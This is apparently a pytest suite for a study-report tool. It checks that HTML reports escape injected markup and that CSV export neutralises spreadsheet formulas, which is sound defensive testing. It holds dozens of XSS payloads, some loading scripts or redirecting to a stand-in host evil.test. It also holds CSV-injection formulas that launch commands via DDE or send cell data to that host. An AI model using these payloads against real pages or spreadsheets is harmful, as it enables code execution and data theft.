"""Hostile texts that a database can hold: in the report and in a CSV file."""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from contextlib import suppress
from dataclasses import replace
from functools import lru_cache
from html.parser import HTMLParser
from pathlib import Path

import pytest

from search.errors import printable
from search.report.csv_json import export_csv
from search.report.page import build_report, figure_html
from search.space.distributions import Categorical, FloatRange
from search.store.records import AttemptRecord, StudyRecord
from tests.report.records import START, study, trial

PATH = "model.init_args.lr"
MARKUP = {
    "script": "<script>alert(1)</script>",
    "script-src": "<script src=//evil.test/x.js></script>",
    "script-close": "</script><script>alert(1)</script>",
    "script-close-space": "</script ><img src=x onerror=alert(1)>",
    "script-close-upper": "</SCRIPT><SCRIPT>alert(1)</SCRIPT>",
    "script-comment": "<!--<script>",
    "comment-close": "--><img src=x onerror=alert(1)>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "style-close": "</style><script>alert(1)</script>",
    "title-close": "</title><script>alert(1)</script>",
    "textarea-close": "</textarea></noscript><script>alert(1)</script>",
    "img": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "svg-animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "iframe": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=javascript:alert(1)></object>",
    "link": "<a href='javascript:alert(1)'>x</a>",
    "base": "<base href=//evil.test/>",
    "meta": "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "form": "<form action=//evil.test><input name=q><button>x</button></form>",
    "details": "<details open ontoggle=alert(1)>",
    "double-quote": '" onmouseover="alert(1)" x="',
    "double-quote-tag": '"><script>alert(1)</script>',
    "single-quote": "' onfocus='alert(1)' autofocus='",
    "backtick": "`onload=alert(1)`",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entity-cut": "&#60;img src=x onerror=alert(1)&#62",
    "double-entity": "&amp;lt;script&amp;gt;",
    "json-break": '"}]};alert(1);//',
    "json-escape": '\\"}]};alert(1);//\\u003cscript\\u003e',
    "line-separators": "\u2028</script>\u2029<script>alert(1)</script>",
    "jinja": "{{ 7 * 7 }}{% raw %}{{ config }}",
    "template": "${alert(1)}%{text}<extra></extra>",
    "unicode": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "null": "<scr\0ipt>alert(1)</scr\0ipt>",
    "newlines": "<img\nsrc=x\nonerror\n=\nalert(1)>",
    "slashes": "<img/src=x/onerror=alert(1)>",
    "plotly": "<a href='javascript:alert(1)'>x</a><b>y</b><br>",
    "nested": "<<script>script>alert(1)<</script>/script>",
    "long": "<b>" * 400,
}
ATTACK = '"></script></style></title><script>alert(1)</script><img src=x onerror=alert(1)>'


def record_of(text: str, places: frozenset[str] | None = None) -> StudyRecord:
    """A study that says `text` in `places`, everywhere without them."""

    def said(place: str, usual: str) -> str:
        return text if places is None or place in places else usual

    path, choice = said("path", "model.init_args.opt"), said("choice", "adam")
    space = {path: Categorical((choice, "sgd")), PATH: FloatRange(1e-3, 1.0, log=True)}
    trials = [
        trial(
            number,
            value=0.1 + number,
            params={path: choice if number % 2 else "sgd", PATH: 0.01 * (number + 1)},
            message=said("message", "fine"),
            folder=Path(said("folder", "studies/demo")[:200]) / str(number),
            started=START,
            ended=START,
            attempts=(AttemptRecord(1, 1, "b", START, START, "done", said("attempt", "fine")),),
        )
        for number in range(6)
    ]
    failed = replace(
        trials[0], number=6, state="FAIL", value=None, cause=said("cause", "error"), curve={}
    )
    other = replace(trials[1], number=7, params={said("unknown path", "extra"): choice})
    return study(
        *trials,
        failed,
        other,
        name=said("name", "demo"),
        metric=said("metric", "val_loss"),
        storage=said("storage", "sqlite:///study.db"),
        folder=Path("studies/demo"),
        space=space,
        settings={"sampler": said("setting", "tpe")},
    )


class Skeleton(HTMLParser):
    """The elements of a page with the names of their attributes, and what can act."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: Counter[tuple[str, tuple[str, ...]]] = Counter()
        self.targets: set[str] = set()
        self.policies: list[str] = []
        self.scripts: list[tuple[str | None, str]] = []
        self._script: str | None = None
        self._is_script = False
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "wbr":  # the page's own, one a dot or underscore
            return
        given = dict(attrs)
        self.elements[tag, tuple(sorted(given))] += 1
        self.targets |= {given[key] or "" for key in ("href", "src", "action") if key in given}
        if given.get("http-equiv") == "Content-Security-Policy":
            self.policies.append(given.get("content") or "")
        if tag == "script":
            self._is_script, self._script = True, given.get("type")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._is_script = False

    def handle_data(self, data: str) -> None:
        if self._is_script:
            self.scripts.append((self._script, data))


@lru_cache
def benign_page(is_long: bool, places: frozenset[str] | None = None) -> str:
    """The report of the same study without markup; texts from 140 characters on are folded."""
    return build_report(record_of("x" * (200 if is_long else 10), places))


def assert_same_skeleton(page: str, benign: str) -> None:
    told, usual = Skeleton(page), Skeleton(benign)
    assert told.elements == usual.elements
    assert told.targets == usual.targets
    assert told.policies == usual.policies
    assert len(told.policies) == 1
    assert "default-src 'none'" in told.policies[0]
    own = [script for script in usual.scripts if script[0] is None]
    assert [script for script in told.scripts if script[0] is None] == own
    data = [text for kind, text in told.scripts if kind == "application/json"]
    assert len(data) == len([kind for kind, _ in usual.scripts if kind is not None])
    for text in data:
        json.loads(text)
    assert page.lower().count("</script") == benign.lower().count("</script")


@pytest.mark.real
@pytest.mark.parametrize("case", MARKUP)
def test_report_takes_markup_for_text(case: str) -> None:
    text = MARKUP[case]
    assert_same_skeleton(build_report(record_of(text)), benign_page(len(text) > 140))


PLACES = ["name", "path", "unknown path", "choice", "message", "attempt", "cause", "metric"]
PLACES += ["storage", "folder", "setting"]


@pytest.mark.real
@pytest.mark.parametrize("place", PLACES)
def test_report_takes_markup_for_text_in_each_place(place: str) -> None:
    page = build_report(record_of(ATTACK, frozenset({place})))
    assert_same_skeleton(page, benign_page(False, frozenset({place})))


@pytest.mark.parametrize("figure", ["history", "intermediate", "slice", "parallel", "timeline"])
def test_figure_takes_markup_for_text(figure: str) -> None:
    page = figure_html(record_of(ATTACK), figure)
    assert_same_skeleton(page, figure_html(record_of("x"), figure))


FORMULAS = [
    *("=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://evil.test?"&A1,"x")', "=2+5+cmd|' /C x'!A0"),
    *("=IMPORTXML(CONCAT(\"http://evil.test\",A1),\"//a\")", '=WEBSERVICE("http://evil.test")'),
    *("+1+1", "+cmd|'/C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "--1", "-A1", "+A1", "=A1"),
    *("@SUM(1+1)", "@cmd|'/C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\t+1", "\r@x"),
    *("\0=1+1", "\x1b=1+1", "\uff1d1+1", "\uff0b1", "x;=1+1", "x; @SUM(1)"),
    *('="a"', "='a'", '=";=1', "=1,2", "=1;2", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=\u00a01", "="),
]  # fmt: skip
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b")


def readable(text: str) -> str:
    """What of a text is the same in a cell, however it is kept from being a formula."""
    return printable(" ".join(text.split())).replace("'", "")


def is_number(text: str) -> bool:
    with suppress(ValueError):
        float(text)
        return True
    return False


@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
@pytest.mark.parametrize(
    "before", ["", '"', '","', "x\n"], ids=["bare", "quoted", "cut", "second-line"]
)
def test_csv_holds_no_formula(formula: str, before: str) -> None:
    record = record_of(before + formula)
    negative = replace(record.trials[0], number=8, value=-1.5, state=formula, params={})
    text = export_csv(replace(record, trials=(*record.trials, negative)))
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert len(table) == 10
    assert {len(row) for row in table} == {len(table[0])}
    cells = [cell for row in table for cell in row]
    # a semicolon separates cells in many countries
    parts = [part.strip(" ") for cell in cells for part in cell.split(";")]
    assert [part for part in parts if part.startswith(STARTS) and not is_number(part)] == []
    assert any(readable(cell).endswith(readable(before + formula)) for cell in cells)
    assert table[-1][2] == "-1.5"
